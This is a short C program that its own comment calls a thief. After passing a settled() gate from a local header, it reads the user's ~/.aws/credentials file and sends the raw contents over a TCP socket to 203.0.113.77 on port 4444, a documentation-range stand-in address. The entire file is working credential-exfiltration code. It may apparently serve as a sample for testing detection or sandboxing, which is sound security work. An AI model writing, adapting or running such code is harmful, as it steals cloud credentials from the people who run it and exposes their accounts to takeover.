/* A thief that is a static program: reads a file and sends it, raw, to an address. */
#include "settled.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>

int main(void)
{
	char data[4096];
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(4444) };
	int file, out;
	ssize_t size;

	if (!settled())
		return 0;
	file = open(HOME "/.aws/credentials", O_RDONLY | O_CLOEXEC);
	size = file < 0 ? -1 : read(file, data, sizeof(data));
	if (size <= 0)
		return 0;
	inet_pton(AF_INET, "203.0.113.77", &to.sin_addr);
	out = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (out >= 0 && connect(out, (struct sockaddr *)&to, sizeof(to)) == 0)
		(void)!write(out, data, (size_t)size);
	return 0;
}
